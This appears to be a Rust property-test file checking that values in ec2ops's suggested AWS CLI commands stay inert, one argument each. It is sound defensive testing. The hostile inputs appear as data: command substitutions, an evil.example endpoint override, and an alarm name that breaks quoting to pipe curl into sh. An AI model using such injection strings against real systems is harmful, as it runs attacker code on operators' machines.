//! Suggested commands: whatever an alarm name, group name or mount path holds, a pasted command runs `aws` with
//! exactly the arguments meant — checked by two independent parsers and, where there is one, a real `sh`.

use super::*;
use ec2ops::facts::Gap;

/// What the operator's shell must never see unquoted, and text that must come through whole.
const SHELL_HOSTILE: &[&str] = &[
    "'",
    "\"",
    "$(touch /tmp/ec2ops-pwned)",
    "`id`",
    "${HOME}",
    "$HOME",
    " ",
    "  ",
    "\n",
    "\t",
    "\\",
    "\\'",
    "한국어 디스크",
    "!",
    "!!",
    "*",
    "?",
    "[a]",
    ";",
    "&",
    "&&",
    "|",
    ">",
    "<",
    "(",
    ")",
    "{a,b}",
    "~",
    "#",
    "-",
    "--endpoint-url=http://evil.example",
    "=",
    "%",
    "\u{202e}",
    "\u{2028}",
    "\u{85}",
    "/mnt/x",
    "data",
];

fn shell_hostile() -> impl Strategy<Value = String> {
    prop_oneof![
        2 => prop::collection::vec(prop::sample::select(SHELL_HOSTILE), 1..10).prop_map(|p| p.concat()),
        1 => any::<String>(),
        1 => prop::collection::vec(prop::char::range('\0', '\u{a0}'), 0..30)
            .prop_map(|c| c.into_iter().collect()),
    ]
}

/// The words of a command line in the only grammar suggested commands may use: words separated by one space, each
/// made of characters no shell (zsh included) treats specially, single-quoted text and `\'`. Anything else is an
/// error, so an unquoted `;`, `$`, backtick, glob or newline fails here even where a word splitter would accept it.
pub(super) fn strict_words(line: &str) -> Result<Vec<String>, String> {
    let plain = |c: char| c.is_ascii_alphanumeric() || "-_./:=,@%+".contains(c);
    let mut words = Vec::new();
    let mut word = String::new();
    let mut started = false;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' if started => {
                words.push(std::mem::take(&mut word));
                started = false;
            }
            ' ' => return Err(format!("two spaces in a row in {line:?}")),
            '\'' => {
                started = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(c) => word.push(c),
                        None => return Err(format!("unclosed quote in {line:?}")),
                    }
                }
            }
            '\\' => match chars.next() {
                Some('\'') => {
                    started = true;
                    word.push('\'');
                }
                other => return Err(format!("backslash before {other:?} in {line:?}")),
            },
            // zsh expands a word starting with `=` to a command's path.
            '=' if !started => return Err(format!("a bare word starts with `=` in {line:?}")),
            c if plain(c) => {
                started = true;
                word.push(c);
            }
            c => return Err(format!("unquoted {c:?} in {line:?}")),
        }
    }
    if started {
        words.push(word);
    }
    Ok(words)
}

/// The shell constructs of our own that a sequence may use, each a whole word: the variables its earlier commands
/// captured. Read as the plain word after the arrow; anything else with `$` still fails the strict grammar.
const OUR_EXPANSIONS: &[(&str, &str)] = &[
    ("\"$command_id\"", "COMMAND_ID"),
    ("\"$target_group\"", "TARGET_GROUP"),
    ("$((desired+1))", "DESIRED_PLUS_ONE"),
];

/// A suggested line as the command it runs: `var=$(aws …)` (our own lower-case variable) is the `aws …` inside,
/// and our own expansions are read as plain words.
fn our_shell_read(line: &str) -> String {
    let inner = line
        .split_once("=$(")
        .filter(|(var, _)| {
            !var.is_empty() && var.chars().all(|c| c.is_ascii_lowercase() || c == '_')
        })
        .and_then(|(_, rest)| rest.strip_suffix(')'))
        .unwrap_or(line);
    inner
        .split(' ')
        .map(|w| {
            OUR_EXPANSIONS
                .iter()
                .find(|(ours, _)| *ours == w)
                .map_or(w, |(_, plain)| plain)
        })
        .collect::<Vec<_>>()
        .join(" ")
}

/// A chat next step (an inline code span with Slack's entities) as the command line it shows.
fn chat_step(step: &str) -> String {
    step.strip_prefix('`')
        .and_then(|s| s.strip_suffix('`'))
        .unwrap_or(step)
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// The argument vector of a printed command line (`aws …`, `ec2ops …`), as both parsers read it; they must agree.
fn words_of(line: &str) -> Result<Vec<String>, TestCaseError> {
    let line = &our_shell_read(line);
    let strict = strict_words(line).map_err(TestCaseError::fail)?;
    let split = shlex::split(line)
        .ok_or_else(|| TestCaseError::fail(format!("shlex cannot split {line:?}")))?;
    prop_assert_eq!(&strict, &split, "the parsers disagree on {:?}", line);
    Ok(strict)
}

/// The argument vector of a suggested `aws` command line, as both parsers read it.
fn argv(line: &str) -> Result<Vec<String>, TestCaseError> {
    let strict = words_of(line)?;
    prop_assert_eq!(strict.first().map(String::as_str), Some("aws"));
    Ok(strict)
}

/// Whether a real POSIX shell reads the same arguments (run only on lines both parsers found inert; skipped
/// without `sh`).
fn sh_agrees(line: &str, expected: &[String]) -> Result<(), TestCaseError> {
    let Some(rest) = line.strip_prefix("aws ") else {
        return Err(TestCaseError::fail(format!("not an aws command: {line:?}")));
    };
    let script = format!("printf '%s\\0' {rest}");
    let Ok(out) = std::process::Command::new("/bin/sh")
        .arg("-c")
        .arg(&script)
        .env_clear()
        .output()
    else {
        return Ok(());
    };
    prop_assert!(out.status.success(), "sh failed on {:?}", script);
    let got: Vec<String> = String::from_utf8_lossy(&out.stdout)
        .split_terminator('\0')
        .map(str::to_string)
        .collect();
    prop_assert_eq!(&got[..], &expected[1..], "sh reads {:?} differently", line);
    Ok(())
}

/// What a value becomes in a command: itself, or the placeholder when a one-line command cannot show it exactly.
fn shown_as<'a>(value: &'a str, placeholder: &'a str) -> &'a str {
    let hidden = value.chars().any(ec2ops::report::shell::hidden);
    if hidden || value.chars().count() > ec2ops::report::shell::MAX_ARG_CHARS {
        placeholder
    } else {
        value
    }
}

/// `option value` as the AWS CLI must receive it: a value starting with `-` attached with `=`.
fn option_words(option: &str, value: &str) -> Vec<String> {
    if value.starts_with('-') {
        vec![format!("{option}={value}")]
    } else {
        vec![option.to_string(), value.to_string()]
    }
}

/// The suggested commands of the plain-text report, as lines without the `$ ` prompt.
fn email_commands(email: &str) -> Vec<String> {
    email
        .lines()
        .filter_map(|l| l.trim_start().strip_prefix("$ "))
        .map(str::to_string)
        .collect()
}

/// The suggested commands of the chat description, with Slack's entities read back.
fn chat_commands(description: &str) -> Vec<String> {
    description
        .lines()
        .filter_map(|l| l.split_once("$ `").map(|(_, c)| c))
        .filter_map(|c| c.strip_suffix('`'))
        .map(|c| {
            c.replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&")
        })
        .collect()
}

/// Every command in both renderings of the report parses in the strict grammar, and the chat shows the same
/// arguments as the email (a backtick, which inline code cannot hold, aside).
pub(super) fn check_commands(
    change: &AlarmChange,
    facts: &Facts,
) -> Result<Vec<Vec<String>>, TestCaseError> {
    let settings = Settings {
        language: Language::En,
        ..Settings::default()
    };
    let (_, report, _) = compose(change, facts, &settings);
    check_message_commands(&render::email(&report), &render::chatbot(&report))
}

/// [`check_commands`] on a rendered message: its plain text and its Chatbot payload.
fn check_message_commands(email: &str, chat: &Value) -> Result<Vec<Vec<String>>, TestCaseError> {
    let email = email_commands(email);
    let mut out = Vec::new();
    for line in &email {
        out.push(argv(line)?);
    }
    let description = chat["content"]["description"].as_str().unwrap_or_default();
    for line in chat_commands(description) {
        let words = argv(&line)?;
        let same = out.iter().any(|e| {
            e.len() == words.len()
                && e.iter()
                    .zip(&words)
                    .all(|(a, b)| a.replace('`', "\u{2cb}") == *b)
        });
        prop_assert!(same, "chat command {:?} is in no email command", line);
    }
    for step in chat["content"]["nextSteps"]
        .as_array()
        .into_iter()
        .flatten()
    {
        argv(&chat_step(step.as_str().unwrap_or_default()))?;
    }
    Ok(out)
}

fn find<'a>(
    commands: &'a [Vec<String>],
    prefix: &[&str],
) -> Result<&'a Vec<String>, TestCaseError> {
    commands
        .iter()
        .find(|c| c.len() >= prefix.len() && c.iter().zip(prefix).all(|(a, b)| a == b))
        .ok_or_else(|| TestCaseError::fail(format!("no command {prefix:?} in {commands:?}")))
}

proptest! {
    #![proptest_config(config(256))]

    #[test]
    fn any_value_in_a_built_command_splits_back_into_exactly_that_argument(
        name in shell_hostile(),
        value in shell_hostile(),
    ) {
        use ec2ops::report::shell::Command;
        let line = Command::new("aws cloudwatch describe-alarms")
            .name("--alarm-names", "ALARM_NAME", &name)
            .arg("--region", "REGION", &value)
            .render();
        let mut expected = vec!["aws".to_string(), "cloudwatch".into(), "describe-alarms".into()];
        expected.extend(option_words("--alarm-names", shown_as(&name, "ALARM_NAME")));
        expected.extend(option_words("--region", shown_as(&value, "REGION")));
        let words = argv(&line)?;
        prop_assert_eq!(&words, &expected);
        sh_agrees(&line, &expected)?;
    }

    #[test]
    fn any_alarm_name_reaches_the_suggested_commands_as_one_argument(name in shell_hostile()) {
        let mut event = sample("ok-recovery.json");
        event["detail"]["alarmName"] = name.clone().into();
        let Ok(Parsed::Alarm(change)) = parse(&event) else {
            return Err(TestCaseError::fail("the event parses"));
        };
        let commands = check_commands(&change, &facts_for("ok-recovery.json"))?;
        let history = find(&commands, &["aws", "cloudwatch", "describe-alarm-history"])?;
        let mut expected = vec!["aws".to_string(), "cloudwatch".into(), "describe-alarm-history".into()];
        expected.extend(option_words("--alarm-name", shown_as(&change.alarm_name, "ALARM_NAME")));
        prop_assert_eq!(&history[..expected.len()], &expected[..]);
    }

    #[test]
    fn any_auto_scaling_group_name_reaches_the_suggested_commands_as_one_argument(group in shell_hostile()) {
        let mut event = sample("asg-cpu.json");
        inject(Field::AsgDimension, &group, &mut event, &mut Facts::unavailable(Gap::Failed("fuzz".into())));
        let Ok(Parsed::Alarm(change)) = parse(&event) else {
            return Err(TestCaseError::fail("the event parses"));
        };
        let commands = check_commands(&change, &facts_for("asg-cpu.json"))?;
        let Some(asg) = change.primary_metric().and_then(|m| m.dimensions.get("AutoScalingGroupName")) else {
            return Ok(());
        };
        let groups = find(&commands, &["aws", "autoscaling", "describe-auto-scaling-groups"])?;
        let mut expected = vec!["aws".to_string(), "autoscaling".into(), "describe-auto-scaling-groups".into()];
        expected.extend(option_words("--auto-scaling-group-names", shown_as(asg, "ASG_NAME")));
        prop_assert_eq!(&groups[..expected.len()], &expected[..]);
    }

    #[test]
    fn any_mount_path_reaches_the_instance_as_one_argument_inside_exact_json(path in shell_hostile()) {
        let change = support::load("disk-full.json");
        let mut facts = support::pressure();
        if let Source::Available(w) = &mut facts.metrics {
            if let Some(s) = w.series.get_mut(&ec2ops::facts::Role::Disk(0)) {
                s.name = "disk_used_percent".into();
                s.dimension = Some(path.to_string());
            }
        }
        let commands = check_commands(&change, &facts)?;
        let ssm = commands
            .iter()
            .find(|c| c.iter().any(|w| w.contains("du -xh")))
            .ok_or_else(|| TestCaseError::fail(format!("no du command in {commands:?}")))?;
        let at = ssm.iter().position(|w| w == "--parameters").unwrap_or(usize::MAX);
        let json = ssm.get(at.wrapping_add(1)).cloned().unwrap_or_default();
        let parameters: Value = serde_json::from_str(&json)
            .map_err(|e| TestCaseError::fail(format!("--parameters is not JSON ({e}): {json:?}")))?;
        // df (space, inodes) and du each take the path as their third word, exactly.
        for tool in [["df", "-hP"], ["df", "-iP"], ["du", "-xh"]] {
            let remote = parameters["commands"]
                .as_array()
                .and_then(|cs| cs.iter().filter_map(Value::as_str).find(|c| c.starts_with(&tool.join(" "))))
                .unwrap_or_default();
            // The instance's shell reads the remote command: the path must be its third word, exactly.
            let mut words = shlex::split(remote)
                .ok_or_else(|| TestCaseError::fail(format!("remote command does not split: {remote:?}")))?;
            // A path starting with `-` comes after `--`, so the tool cannot read it as an option.
            if path.starts_with('-') && path.chars().count() <= ec2ops::report::shell::MAX_ARG_CHARS {
                prop_assert_eq!(words.get(2).map(String::as_str), Some("--"), "{:?}", remote);
                words.remove(2);
            }
            let expected = path.as_str();
            if expected.chars().count() <= ec2ops::report::shell::MAX_ARG_CHARS {
                prop_assert_eq!(words.get(2).map(String::as_str), Some(expected), "{:?}", remote);
            } else {
                prop_assert_eq!(words.get(2).map(String::as_str), Some("MOUNT_PATH"));
            }
            prop_assert_eq!(&words[..2], &[tool[0].to_string(), tool[1].to_string()][..]);
        }
    }
}

#[test]
fn a_mount_path_that_closes_the_quote_cannot_run_anything_on_the_operators_machine() {
    // The DISK step put the quoted path inside a single-quoted `--parameters '…'`: its own quotes ended the outer
    // ones, so `$(…)` in a mount path ran on the operator's machine when the command was pasted.
    let change = support::load("disk-full.json");
    let mut facts = support::pressure();
    let path = "/mnt/x'$(touch /tmp/ec2ops-pwned)'";
    if let Source::Available(w) = &mut facts.metrics {
        if let Some(s) = w.series.get_mut(&ec2ops::facts::Role::Disk(0)) {
            s.name = "disk_used_percent".into();
            s.dimension = Some(path.to_string());
        }
    }
    let (_, report, _) = compose(&change, &facts, &Settings::default());
    let line = email_commands(&render::email(&report))
        .into_iter()
        .find(|c| c.contains("du -xh"))
        .expect("a du command");
    let words = strict_words(&our_shell_read(&line)).expect("inert");
    let at = words
        .iter()
        .position(|w| w == "--parameters")
        .expect("--parameters");
    let parameters: Value = serde_json::from_str(&words[at + 1]).expect("JSON");
    let remote = parameters["commands"][0].as_str().unwrap();
    assert_eq!(shlex::split(remote).unwrap()[2], path, "{remote}");
}

#[test]
fn a_command_too_long_for_a_chat_field_is_left_out_rather_than_cut() {
    // A cut command can end inside a quoted name: what the operator pasted next would continue it and run.
    let mut event = sample("ok-recovery.json");
    event["detail"]["alarmName"] = "a".repeat(600).into();
    let Ok(Parsed::Alarm(change)) = parse(&event) else {
        panic!("parses");
    };
    let (_, report, _) = compose(
        &change,
        &facts_for("ok-recovery.json"),
        &Settings::default(),
    );
    let steps = render::chatbot(&report)["content"]["nextSteps"].clone();
    for step in steps.as_array().unwrap() {
        let step = chat_step(step.as_str().unwrap());
        assert!(!step.ends_with('…'), "{step}");
        strict_words(&our_shell_read(&step)).unwrap();
    }
}

/// `ec2ops incidents show KEY` as the CLI must receive it: the key after `--` when it starts with `-` (clap would
/// read it as an option), the placeholder when a one-line command cannot show it exactly.
fn show_argv(key: &str) -> Vec<String> {
    let mut argv: Vec<String> = ["ec2ops", "incidents", "show"].map(String::from).to_vec();
    let shown = shown_as(key, "KEY");
    if shown.starts_with('-') {
        argv.push("--".into());
    }
    argv.push(shown.to_string());
    argv
}

/// The command at the start of `text` that reads as `expected`: some prefix ending where our own text goes on
/// (` · `, `)`, or the end) splits, with both parsers, into exactly `expected`.
fn starts_with_command(text: &str, expected: &[String]) -> Result<(), TestCaseError> {
    let ends = text
        .match_indices(" · ")
        .chain(text.match_indices(')'))
        .map(|(at, _)| at)
        .chain([text.len()]);
    for end in ends {
        let prefix = &text[..end];
        if strict_words(prefix).ok().as_deref() == Some(expected)
            && shlex::split(prefix).as_deref() == Some(expected)
        {
            return Ok(());
        }
    }
    Err(TestCaseError::fail(format!(
        "{text:?} does not start with the command {expected:?}"
    )))
}

/// The inline code spans of chat markdown that hold an `ec2ops` command, with Slack's entities read back.
fn ec2ops_spans(markdown: &str) -> Vec<String> {
    markdown
        .split('`')
        .skip(1)
        .step_by(2)
        .map(chat_step)
        .filter(|c| c.starts_with("ec2ops "))
        .collect()
}

/// What the chat shows of an argument: a backtick, which inline code cannot hold, as `ˋ`.
fn in_chat(argv: &[String]) -> Vec<String> {
    argv.iter().map(|w| w.replace('`', "\u{2cb}")).collect()
}

/// The value a command gives `option` (`--region x` or `--region=-x`); a JSON list's values when it is one.
fn option_values(words: &[String], option: &str) -> Option<Vec<String>> {
    let attached = format!("{option}=");
    let value = words.iter().enumerate().find_map(|(i, w)| {
        if w == option {
            words.get(i + 1).cloned()
        } else {
            w.strip_prefix(&attached).map(str::to_string)
        }
    })?;
    if value.starts_with('[') {
        if let Ok(list) = serde_json::from_str::<Vec<String>>(&value) {
            return Some(list);
        }
    }
    Some(vec![value])
}

/// Every command that takes one of `options` gives it exactly `expected`; at least one command does.
fn every_option_is(
    commands: &[Vec<String>],
    options: &[&str],
    expected: &str,
) -> Result<(), TestCaseError> {
    let mut seen = 0;
    for c in commands {
        for option in options {
            if let Some(values) = option_values(c, option) {
                seen += 1;
                prop_assert_eq!(
                    &values,
                    &vec![expected.to_string()],
                    "{} in {:?}",
                    option,
                    c
                );
            }
        }
    }
    prop_assert!(seen > 0, "no command takes {:?}: {:?}", options, commands);
    Ok(())
}

fn digest_entry(key: &str, secs: i64) -> ec2ops::report::digest::DigestEntry {
    let at = chrono::DateTime::from_timestamp(1_796_115_600 + secs, 0).unwrap_or_default();
    ec2ops::report::digest::DigestEntry {
        incident_key: key.to_string(),
        thread_id: format!("20261201T090000.000Z#{key}"),
        priority: ec2ops::analyze::Priority::P0,
        headline: "Status check failed".into(),
        cause: "StatusCheckFailed_System: AWS host problem".into(),
        instance: Some(format!("i-0{secs:016x}")),
        name: Some(key.to_string()),
        az: Some("us-east-1a".into()),
        alarm: key.to_string(),
        family: "status checks".into(),
        fleet: None,
        action: None,
        at,
        quiet: false,
    }
}

/// A follow-up's SNS message as its plain text and its Chatbot payload.
fn followup_parts(
    m: &ec2ops::report::render::SnsMessage,
) -> Result<(String, Value), TestCaseError> {
    let body: Value = serde_json::from_str(&m.message)
        .map_err(|e| TestCaseError::fail(format!("SNS message is not JSON: {e}")))?;
    let chat: Value = serde_json::from_str(body["default"].as_str().unwrap_or("null"))
        .map_err(|e| TestCaseError::fail(format!("default is not JSON: {e}")))?;
    Ok((body["email"].as_str().unwrap_or_default().to_string(), chat))
}

/// An event's `detail`, with `fields` replaced, read as the type it carries — past the parser's own checks, so
/// the rendering is tested for values the parser would refuse too.
fn detail_with<T: serde::de::DeserializeOwned>(sample_name: &str, fields: &[(&str, &str)]) -> T {
    let mut event = sample(sample_name);
    for (k, v) in fields {
        event["detail"][*k] = (*v).into();
    }
    serde_json::from_value(event["detail"].clone()).expect("the sample's detail")
}

proptest! {
    #![proptest_config(config(128))]

    #[test]
    fn any_alarm_name_in_a_storm_digest_reaches_ec2ops_incidents_show_as_one_argument(
        name in shell_hostile(),
        arn in any::<bool>(),
    ) {
        use ec2ops::report::digest::Digest;
        // A key starts with the alarm's ARN, or with its name when the event carries no ARN.
        let prefix = if arn { "arn:aws:cloudwatch:us-east-1:123456789012:alarm:" } else { "" };
        let hostile = format!("{prefix}{name}#ALARM#2026-12-01T09:00:01.000Z");
        let plain = "arn:aws:cloudwatch:us-east-1:123456789012:alarm:web-02#ALARM#2026-12-01T09:00:02.000Z";
        let start = chrono::DateTime::from_timestamp(1_796_115_600, 0).unwrap_or_default();
        for language in [Language::Ko, Language::En] {
            let digest = Digest::new(
                vec![digest_entry(&hostile, 1), digest_entry(plain, 2)],
                start,
                start + chrono::Duration::seconds(60),
                language,
                chrono_tz::Asia::Seoul,
                5,
            );
            let placeholder = show_argv("\u{202e}");
            let list = ["ec2ops", "incidents", "--since", "10m"].map(String::from).to_vec();
            let mut expected = vec![show_argv(&hostile), show_argv(plain), placeholder, list];
            // Plain text: each incident's line starts with its own command.
            let email = digest.email();
            for key in [&hostile[..], plain] {
                let line = email
                    .lines()
                    .map(str::trim_start)
                    .find(|l| starts_with_command(l, &show_argv(key)).is_ok());
                prop_assert!(line.is_some(), "no `ec2ops incidents show` line for {:?} in\n{}", key, email);
            }
            // Chat: every `ec2ops` code span and next step is one of the commands meant, word for word.
            expected = expected.iter().map(|e| in_chat(e)).collect();
            let chat = digest.chatbot();
            let steps = chat["content"]["nextSteps"].as_array().cloned().unwrap_or_default();
            let spans = ec2ops_spans(chat["content"]["description"].as_str().unwrap_or_default());
            prop_assert!(spans.iter().any(|s| words_of(s).ok() == Some(in_chat(&show_argv(&hostile)))));
            for cmd in spans.iter().cloned().chain(steps.iter().map(|s| chat_step(s.as_str().unwrap_or_default()))) {
                let words = words_of(&cmd)?;
                prop_assert!(expected.contains(&words), "{:?} is no command meant: {:?}", cmd, words);
            }
        }
    }

    #[test]
    fn any_incident_key_in_a_covered_incident_s_look_back_record_is_one_argument(name in shell_hostile()) {
        let change = support::load("status-system.json");
        let facts = facts_for("status-system.json");
        let assessment = ec2ops::analyze::assess(&change, &facts);
        let by = format!("arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:{name}#ALARM#2025-10-12T04:31:00.000Z");
        for key in [by.clone(), format!("{name}#ALARM#t")] {
            for language in [Language::Ko, Language::En] {
                let logged = ec2ops::pipeline::storm::covered(
                    &change, &change.incident_key(), &assessment, &key, language, change.state.at,
                );
                let at = logged.report.find("ec2ops incidents show").ok_or_else(|| {
                    TestCaseError::fail(format!("no command in {:?}", logged.report))
                })?;
                // The command runs to the end of the record's text.
                let words = words_of(&logged.report[at..])?;
                prop_assert_eq!(words, show_argv(&key));
            }
        }
    }

    #[test]
    fn any_instance_id_region_or_alarm_name_reaches_a_follow_up_s_commands_as_one_argument(
        id in shell_hostile(),
        region in shell_hostile(),
        alarm in shell_hostile(),
    ) {
        use ec2ops::remediation::{Continuation, VerifyRequest};
        use ec2ops::report::followup::{self, Verdict};
        let fields = [("instance_id", &id[..]), ("region", &region[..]), ("alarm_name", &alarm[..])];
        let req: VerifyRequest = detail_with("verify-reboot.json", &fields);
        let c: Continuation = detail_with("recover-continuation.json", &fields);
        let not_fixed = Verdict::NotFixed { detail: ec2ops::report::followup::NotFixed::State(ec2ops::facts::InstanceState::Stopped) };
        for language in [Language::Ko, Language::En] {
            let tz = chrono_tz::Asia::Seoul;
            let mut messages = vec![followup::render(&req, &not_fixed, req.acted_at, language, tz)];
            use ec2ops::facts::InstanceState as S;
            for state in [S::Stopped, S::Stopping, S::Running, S::Terminated] {
                let stuck = ec2ops::remediation::Stuck::StartFailed { error: alarm.clone() };
                messages.push(followup::render_recover(&c, Some(state), &stuck, c.stopped_at, language, tz));
            }
            for m in &messages {
                let (email, chat) = followup_parts(m)?;
                let commands = check_message_commands(&email, &chat)?;
                every_option_is(&commands, &["--instance-id", "--instance-ids"], shown_as(&id, "INSTANCE_ID"))?;
                every_option_is(&commands, &["--region"], shown_as(&region, "REGION"))?;
            }
        }
    }

    #[test]
    fn any_instance_id_of_an_alarm_reaches_the_suggested_commands_as_one_argument(id in shell_hostile()) {
        // The parser takes only ids shaped like `i-…`; the commands must not depend on it, so the id is set past it.
        for base in ["status-instance.json", "cpu-spike.json"] {
            let mut change = support::load(base);
            change.instance_ids = vec![id.clone()];
            for m in &mut change.metrics {
                if let Some(d) = m.dimensions.get_mut("InstanceId") {
                    d.clone_from(&id);
                }
            }
            let commands = check_commands(&change, &Facts::unavailable(Gap::Failed("fuzz".into())))?;
            every_option_is(&commands, &["--instance-id", "--instance-ids"], shown_as(&id, "INSTANCE_ID"))?;
        }
    }

    #[test]
    fn any_name_tag_and_opt_in_tag_key_stay_inside_their_arguments(tag in shell_hostile()) {
        let mut opt_in_offered = 0;
        for base in ["status-system.json", "status-instance.json", "instance-check-oom.json", "status-ebs.json"] {
            let change = support::load(base);
            let mut facts = facts_for(base);
            if let Source::Available(InstanceLookup::Found(i)) = &mut facts.instance {
                // A lone instance: an Auto Scaling member is handed to its group, never opted in.
                i.tags.remove("aws:autoscaling:groupName");
            }
            inject(Field::NameTag, &tag, &mut sample(base), &mut facts);
            let mut settings = Settings { language: Language::En, ..Settings::default() };
            settings.envelope.opt_in_tag = tag.clone();
            let (_, report, _) = compose(&change, &facts, &settings);
            let commands = check_message_commands(&render::email(&report), &render::chatbot(&report))?;
            // The opt-in advice tags the instance with the configured key, as one JSON argument.
            if let Ok(tags) = find(&commands, &["aws", "ec2", "create-tags"]) {
                opt_in_offered += 1;
                let json = option_values(tags, "--tags").unwrap_or_default().concat();
                let parsed: Value = serde_json::from_str(&json)
                    .map_err(|e| TestCaseError::fail(format!("--tags is not JSON ({e}): {json:?}")))?;
                prop_assert_eq!(parsed, json!([{"Key": tag, "Value": "true"}]));
            }
        }
        prop_assert!(opt_in_offered > 0, "no report offered the opt-in tag");
    }
}

#[test]
fn an_alarm_name_that_closes_the_quote_cannot_run_anything_from_a_look_back_record() {
    // Finding 7: the covered incident's record said `ec2ops incidents show '{by}'` with the key as it came, so this
    // alarm name ended the quote and piped curl into a shell on the operator's machine.
    let change = support::load("status-system.json");
    let assessment = ec2ops::analyze::assess(&change, &facts_for("status-system.json"));
    let by = "arn:aws:cloudwatch:ap-northeast-2:123456789012:alarm:x';curl evil|sh;'#ALARM#t";
    for language in [Language::Ko, Language::En] {
        let logged = ec2ops::pipeline::storm::covered(
            &change,
            &change.incident_key(),
            &assessment,
            by,
            language,
            change.state.at,
        );
        let at = logged
            .report
            .find("ec2ops incidents show")
            .expect("a command");
        let line = &logged.report[at..];
        assert_eq!(
            strict_words(line).expect("inert"),
            ["ec2ops", "incidents", "show", by],
            "{line}"
        );
        assert_eq!(
            shlex::split(line).expect("splits"),
            ["ec2ops", "incidents", "show", by]
        );
    }
}
